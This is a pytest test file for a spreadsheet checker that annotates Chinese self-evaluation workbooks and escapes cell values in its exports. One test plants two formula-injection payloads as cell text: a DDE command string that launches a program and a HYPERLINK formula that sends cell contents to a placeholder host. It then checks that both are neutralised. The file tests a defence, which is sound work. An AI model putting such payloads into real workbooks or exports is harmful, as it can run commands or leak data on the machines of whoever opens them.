"""Annotated workbook: comments on the cell a finding names (the visible one of a merged row),
links to the same cell, Chinese 核查结果, text that looks like a formula kept as text, .xls note."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from checker.cli import app
from checker.engine import check
from reports.annotate_xlsx import annotate, visible_cell
from reports.safe_cells import csv_cell, risky

ROOT = Path(__file__).resolve().parents[1]
BUNDLE = ROOT / "data" / "batch" / "003_bundle.xlsx"
HYPERLINK = '=HYPERLINK("http://x"&A1,"x")'
DDE = "=cmd|' /C calc'!A0"
runner = CliRunner()


@pytest.fixture(scope="module")
def annotated(tmp_path_factory):
    out = tmp_path_factory.mktemp("ann")
    written = annotate(check([str(BUNDLE)]), str(out))
    assert written == [str(out / "003_bundle.核查.xlsx")]
    return openpyxl.load_workbook(written[0])


def test_merged_cell_comment_goes_to_the_named_row_and_the_link_follows(annotated):
    # XREF.COST_SUM at 项目2!A14: A14 hides under the 绩效指标 label A10:A19, B14 under B11:B14;
    # C14 (成本指标) is the first visible cell of row 14.
    assert visible_cell(annotated["项目2"], "A14") == "C14"
    assert annotated["项目2"]["A10"].comment is None
    note = annotated["项目2"]["C14"].comment.text
    assert note.startswith("[错误] XREF.COST_SUM (项目2!A14): 成本指标（成本控制）指标值合计 20 万元")
    sheet = annotated["核查结果"]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "项目2!A14")
    assert row[0].value == "错误" and row[2].hyperlink.location == "'项目2'!C14"


def test_plain_cells_keep_their_comment_and_link(annotated):
    note = annotated["项目4"]["H12"].comment.text
    assert note.startswith("[错误] IND.OVERSCORE: 得分 3 高于按公式计算的 2.33")
    row = next(r for r in annotated["核查结果"].iter_rows(min_row=2) if r[2].value == "项目4!H12")
    assert row[2].hyperlink.location == "'项目4'!H12"
    assert visible_cell(annotated["项目2"], "C1") == "C1"   # the anchor of a merge is itself


def test_results_sheet_in_chinese(annotated):
    sheet = annotated["核查结果"]
    assert annotated.sheetnames[0] == "核查结果"
    assert [c.value for c in sheet[1]] == ["级别", "规则", "位置", "项目", "部分", "指标", "填报值", "应为", "说明",
                                           "豁免"]
    levels = {r[0].value for r in sheet.iter_rows(min_row=2)}
    assert levels <= {"错误", "警告", "提示"} and "错误" in levels


def hostile_bundle(tmp: Path) -> Path:
    wb = openpyxl.load_workbook(BUNDLE)
    for sheet, name in (("项目2", HYPERLINK), ("项目4", DDE)):
        cell = wb[sheet]["C1"]
        cell.value = name
        cell.data_type = "s"  # the input holds it as text, as a submitted form would
    path = tmp / "hostile.xlsx"
    wb.save(path)
    return path


def test_formula_like_text_is_written_as_text(tmp_path):
    src = hostile_bundle(tmp_path)
    res = runner.invoke(app, ["check", str(src), "--annotate", str(tmp_path / "out"), "--format", "csv",
                              "-o", str(tmp_path / "f.csv")])
    assert res.exit_code == 1
    copy = tmp_path / "out" / "hostile.核查.xlsx"
    with zipfile.ZipFile(copy) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")  # 核查结果 is the first sheet
    assert "<f>" not in sheet_xml
    wb = openpyxl.load_workbook(copy)
    projects = [r[3] for r in wb["核查结果"].iter_rows(min_row=2)]
    hostile = [c for c in projects if c.value in (HYPERLINK, DDE)]
    assert {c.value for c in hostile} == {HYPERLINK, DDE}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    rows = list(csv.reader((tmp_path / "f.csv").read_text(encoding="utf-8-sig").splitlines()))
    names = {r[1] for r in rows[1:]}
    assert "'" + HYPERLINK in names and "'" + DDE in names and HYPERLINK not in names
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r)


def test_escape_rules():
    assert [csv_cell(v) for v in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "-3", "+2.5%", "正常", "")] == \
        ["'=1+1", "'+A1", "'-A1", "'@SUM(A1)", "'\tx", "'\rx", "-3", "+2.5%", "正常", ""]
    assert not risky(3) and risky("-1+1")


def write_ods(rows: list[list[str]], path: Path) -> None:
    """A minimal OpenDocument spreadsheet (one sheet of text cells), as LibreOffice would save it."""
    from xml.sax.saxutils import escape

    from tests.hostile.builders import ods

    body = "".join("<table:table-row>" + "".join(
        f'<table:table-cell office:value-type="string"><text:p>{escape(c)}</text:p></table:table-cell>'
        if c else "<table:table-cell/>" for c in row) + "</table:table-row>" for row in rows)
    ods(path, body, sheet="自评表")


def test_ods_inputs_get_a_note_instead_of_a_copy(tmp_path):
    text = (ROOT / "data" / "batch" / "001_selfeval_yanchi_2024.txt").read_text(encoding="utf-8")
    src = tmp_path / "盐池.ods"
    write_ods([line.split("\t") for line in text.splitlines()], src)
    res = runner.invoke(app, ["check", str(src), "--annotate", str(tmp_path / "out"), "--format", "html",
                              "-o", str(tmp_path / "r.html")])
    assert res.exit_code == 1, res.stderr
    note = f"{src}: .xls/.ods 文件不生成批注副本，另存为 .xlsx 后再核查即可得到"
    assert note in res.stderr and note in (tmp_path / "r.html").read_text(encoding="utf-8")
    assert not list((tmp_path / "out").glob("*"))


def test_a_waived_finding_is_marked_and_greyed_in_the_copy(tmp_path):
    """A finding a waiver accepts says so in its comment and its 核查结果 row, and its cell is grey
    (it needs no attention) unless another finding there still does."""
    from checker.waivers import Waiver, attach

    result = check([str(BUNDLE)])
    f = result.findings
    target = f[(f["rule"] == "IND.OVERSCORE") & (f["location"] == "项目4!H12")].iloc[0]
    attach(result, tmp_path / "w.toml", [Waiver(fingerprint=target["fingerprint"], reason="已核实，按复核分")])
    (written,) = annotate(result, str(tmp_path / "out"))
    wb = openpyxl.load_workbook(written)
    cell = wb["项目4"]["H12"]
    assert "[已豁免：已核实，按复核分]" in cell.comment.text
    others = f[(f["location"] == "项目4!H12") & (f["fingerprint"] != target["fingerprint"])]
    from reports.annotate_xlsx import FILL

    assert others.empty   # the waived finding is the cell's only one: the cell is grey
    assert cell.fill.fgColor.rgb == FILL["waived"] == "FFE4E4E4"
    row = next(r for r in wb["核查结果"].iter_rows(min_row=2) if r[2].value == "项目4!H12" and r[1].value == "IND.OVERSCORE")
    assert row[9].value == "已豁免：已核实，按复核分" and row[0].fill.fgColor.rgb == "FFE4E4E4"
